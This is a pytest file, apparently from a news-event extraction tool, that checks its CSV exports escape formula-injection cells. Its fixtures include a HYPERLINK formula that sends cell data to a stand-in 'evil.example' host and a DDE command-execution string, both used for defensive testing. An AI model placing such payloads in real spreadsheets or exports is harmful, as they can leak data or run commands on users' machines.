"""Probe of issue 16: an outlet or title starting with `=HYPERLINK(...)` reached the API's CSV, `rasd export` and the
dashboard export (whose guard skipped list fields) unescaped. Every CSV writer now guards text cells."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner

from rasd.cli import cli
from rasd.csvsafe import safe_csv_cell
from rasd.model import Article, ArticleResult, Event, Span
from rasd.store.repository import Repository

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TEXT = "قتل ثلاثة مدنيين في قصف على ريف حلب."
WEB = Path(__file__).resolve().parents[2] / "rasd" / "api" / "web" / "export.js"


def test_safe_csv_cell() -> None:
    assert safe_csv_cell(FORMULA) == "'" + FORMULA
    for start in "=+-@\t\r":
        assert safe_csv_cell(start + "x").startswith("'")
    assert safe_csv_cell([FORMULA, "b"]) == "'" + FORMULA + "; b"  # lists: guarded after joining
    assert safe_csv_cell(-3.2) == "-3.2" and safe_csv_cell(-1) == "-1"  # numbers are not formulas
    assert safe_csv_cell(None) == "" and safe_csv_cell(True) == "true" and safe_csv_cell("حلب") == "حلب"


@pytest.fixture
def poisoned_store(tmp_path: Path) -> str:
    db = str(tmp_path / "formula.db")
    article = Article(text=TEXT, title=FORMULA, outlet=FORMULA, url="https://example.org/a", published=date(2020, 1, 2))
    event = Event(event_id="ev-formula", event_date=date(2020, 1, 1), time_precision=1, event_type="Battles",
                  sub_event_type="Armed clash", actor1="-cmd|' /C calc'!A0", country="Syria", iso3="SYR",
                  location="@SUM(1+1)", latitude=36.2, longitude=-37.16, notes=FORMULA,
                  evidence={"location": Span(TEXT.index("ريف"), TEXT.index("ريف") + 7, "ريف حلب")})
    with Repository(db) as repo:
        assert repo.add_result(ArticleResult(article=article, events=[event]))
    return db


def assert_no_formula(table: str) -> None:
    rows = list(csv.reader(io.StringIO(table)))
    assert len(rows) >= 2
    cells = [c for row in rows[1:] for c in row]
    assert any(c.startswith("'=") for c in cells)  # the poisoned cells are there, guarded
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]


def test_rasd_events_and_export_csv_are_guarded(poisoned_store: str, tmp_path: Path) -> None:
    runner = CliRunner()
    out = runner.invoke(cli, ["events", "--db", poisoned_store, "--format", "csv"])
    assert out.exit_code == 0, out.output
    assert_no_formula(out.stdout)
    target = tmp_path / "ev.csv"
    out = runner.invoke(cli, ["export", "--db", poisoned_store, "--format", "acled-csv", "--out", str(target)])
    assert out.exit_code == 0, out.output
    assert_no_formula(target.read_text(encoding="utf-8"))


def test_api_csv_is_guarded(poisoned_store: str) -> None:
    from fastapi.testclient import TestClient

    from rasd.api.app import create_app

    app = create_app(poisoned_store)
    with TestClient(app) as client:
        r = client.get("/api/events", params={"format": "csv"})
    app.state.repo.close()
    assert r.status_code == 200
    assert_no_formula(r.text)


def test_dashboard_export_is_guarded(poisoned_store: str) -> None:
    """The dashboard's export buttons download GET /api/export: its CSV layouts carry the guard too."""
    from fastapi.testclient import TestClient

    from rasd.api.app import create_app

    app = create_app(poisoned_store)
    with TestClient(app) as client:
        for fmt in ("csv", "acled-csv"):
            r = client.get("/api/export", params={"format": fmt, "include_background": "true", "modality": "all"})
            assert r.status_code == 200, r.text
            assert_no_formula(r.text)
    app.state.repo.close()
